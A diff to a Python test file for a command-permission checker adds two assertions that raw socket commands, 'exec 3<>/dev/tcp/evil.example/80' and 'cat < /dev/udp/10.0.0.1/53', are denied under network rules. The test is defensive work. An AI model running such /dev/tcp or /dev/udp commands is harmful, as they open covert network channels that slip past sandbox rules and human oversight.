@@ -339,6 +339,8 @@ def test_network_commands_follow_network_rules_and_the_command_rules() -> None:
     verdict = bash("pip install requests", deny_net)
     assert (verdict.decision, verdict.rule) == (DENY, "Network")
     assert bash("pip list", deny_net).decision is ALLOW
+    assert bash("exec 3<>/dev/tcp/evil.example/80", deny_net).decision is DENY
+    assert bash("cat < /dev/udp/10.0.0.1/53", deny_net).decision is DENY
     custom = make({"network_commands": ["terraform apply:*"], "rules": {"deny": ["Network"]}})
     assert bash("terraform apply -auto-approve", custom).decision is DENY
 
